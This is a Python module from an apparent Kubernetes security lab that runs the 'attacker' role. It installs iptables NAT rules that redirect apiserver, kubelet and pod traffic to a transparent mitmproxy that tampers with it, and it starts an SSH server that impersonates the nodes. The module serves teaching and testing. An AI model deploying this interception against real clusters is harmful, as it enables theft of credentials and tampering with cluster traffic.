"""The attacker container's process (``lab role attacker``), in the router's network namespace.

``LAB_ATTACK=off`` (honest): the router forwards, nobody looks. ``LAB_ATTACK=intercept``: three
sets of connections are redirected to mitmproxy on the router itself:

1. the apiserver's to the kubelets, each port of ``LAB_ATTACK_PORTS`` (default ``10250``, the
   kubelet API; scenarios 1 and 2);
2. the apiserver's to pod IPs, every port (the apiserver proxy, scenario 4);
3. the nodes' and their pods' to the apiserver's port 443 (scenarios 5 and 9). The addon passes a
   client through untouched once it refused mitmproxy's certificate (lab/attacker/giveup.py): the
   verifying kubelets keep working, and the attacker keeps the cluster alive to wait for a victim
   that does not verify.

::

    iptables -t nat -A PREROUTING -s 10.221.1.10 -p tcp --dport 10250 -j REDIRECT --to-port 8080
    iptables -t nat -A PREROUTING -s 10.221.1.10 -d 10.244.0.0/16 -p tcp -j REDIRECT --to-port 8080
    iptables -t nat -A PREROUTING -s 10.221.2.0/24 -d 10.221.1.10 -p tcp --dport 443 -j REDIRECT --to-port 8080
    iptables -t nat -A PREROUTING -s 10.244.0.0/16 -d 10.221.1.10 -p tcp --dport 443 -j REDIRECT --to-port 8080
    mitmdump --mode transparent --listen-port 8080 --ssl-insecure -s lab/attacker/addon.py

mitmproxy finds the original destination itself (SO_ORIGINAL_DST) and opens its own connection
there (``--ssl-insecure``: it does not check the kubelet's certificate either). Port 22 (the SSH tunnels
of ``LAB_TUNNEL=ssh``) goes to the attacker's own SSH server instead, which impersonates the nodes
(lab/attacker/sshimpersonate.py, listening on 2222); port 8132 (the Konnectivity agents' connections
IN to the server of ``LAB_TUNNEL=konnectivity``) goes to mitmproxy like the rest. Apart from rule 3, only
the apiserver's connections are taken, so a learner's own ``curl`` to a kubelet (scenario 3) passes untouched. The
rules are removed again on SIGTERM (compose's ``init: true`` delivers it here).
"""

from __future__ import annotations

import os
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path
from types import FrameType

from lab.attacker import loot
from lab.topology import Topology

LISTEN_PORT = 8080
SSH_PORT, SSH_LISTEN_PORT = 22, 2222
AGENT_PORT = 8132  # Konnectivity agents -> server: taken on the way IN to the control plane
SSH_READY = Path("/run/lab/ssh-ready")  # touched by the impersonator once it listens
ADDON = Path(__file__).with_name("addon.py")
READY = Path("/run/lab/ready")  # touched by the addon once mitmproxy listens


def nat_rules(top: Topology, ports: list[int]) -> list[list[str]]:
    """The PREROUTING rules (without -A/-D) that hand the apiserver's connections to mitmproxy."""
    return [["PREROUTING", "-d" if port == AGENT_PORT else "-s", top.apiserver_ip, "-p", "tcp", "--dport", str(port),
             "-j", "REDIRECT", "--to-port", str(SSH_LISTEN_PORT if port == SSH_PORT else LISTEN_PORT)]
            for port in ports]


def pod_and_apiserver_rules(top: Topology) -> list[list[str]]:
    """Rules 2 and 3 of the docstring: apiserver -> pod IPs; nodes and pods -> apiserver:443."""
    redirect = ["-j", "REDIRECT", "--to-port", str(LISTEN_PORT)]
    return [["PREROUTING", "-s", top.apiserver_ip, "-d", top.cluster_cidr, "-p", "tcp", *redirect],
            *(["PREROUTING", "-s", source, "-d", top.apiserver_ip, "-p", "tcp", "--dport", str(top.apiserver_port),
               *redirect] for source in (top.nodes_cidr, top.cluster_cidr))]


def impersonator_argv() -> list[str]:
    return ["/opt/venv/bin/python", "-m", "lab.attacker.sshimpersonate", "--port", str(SSH_LISTEN_PORT)]


def mitmdump_argv() -> list[str]:
    """addon.py reads and tampers; its GiveUp part (giveup.py) passes clients that verify through, for the
    apiserver's 443 and the Konnectivity agent port 8132."""
    return ["mitmdump", "--mode", "transparent", "--listen-port", str(LISTEN_PORT), "--ssl-insecure",
            "-s", str(ADDON)]


def _iptables(op: str, rule: list[str]) -> None:
    argv = ["iptables", "-t", "nat", op, *rule]
    print("+ " + shlex.join(argv), flush=True)
    subprocess.run(argv, check=op == "-A")


def _wait_listening(child: subprocess.Popen[bytes], timeout: float = 60.0, ready: Path = READY) -> bool:
    """Until the addon's ``running`` hook marked mitmproxy ready (so no connection is redirected to a
    port nobody listens on yet); False if mitmdump died first."""
    deadline = time.monotonic() + timeout
    while not ready.exists():
        if child.poll() is not None or time.monotonic() > deadline:
            print("attacker: mitmdump did not start; no interception", file=sys.stderr, flush=True)
            return False
        time.sleep(0.1)
    return True


def main(top: Topology) -> int:
    mode = os.environ.get("LAB_ATTACK", "off")
    if mode == "off":
        print("attacker: honest mode (LAB_ATTACK=off): the router only forwards, nothing is read", flush=True)
        loot.record(loot.DEFAULT, "started", mode="off")
        from lab.roles import role_idle

        role_idle(top)
        return 0
    if mode != "intercept":
        print(f"attacker: LAB_ATTACK must be off or intercept, not {mode!r}", file=sys.stderr)
        return 2
    ports = [int(p) for p in os.environ.get("LAB_ATTACK_PORTS", "10250").replace(",", " ").split()]
    rules = nat_rules(top, ports) + pod_and_apiserver_rules(top)
    argv = mitmdump_argv()
    print("+ " + shlex.join(argv), flush=True)
    child = subprocess.Popen(argv)
    impersonator = None
    if SSH_PORT in ports:
        print("+ " + shlex.join(impersonator_argv()), flush=True)
        impersonator = subprocess.Popen(impersonator_argv())

    def stop(signum: int, frame: FrameType | None) -> None:
        child.terminate()
        if impersonator is not None:
            impersonator.terminate()

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    try:
        if not _wait_listening(child):
            return child.wait()
        if impersonator is not None and not _wait_listening(impersonator, ready=SSH_READY):
            return impersonator.wait()
        for rule in rules:
            _iptables("-A", rule)
        return child.wait()
    finally:
        for rule in rules:
            _iptables("-D", rule)
        for proc in (child, impersonator):
            if proc is not None and proc.poll() is None:
                proc.kill()
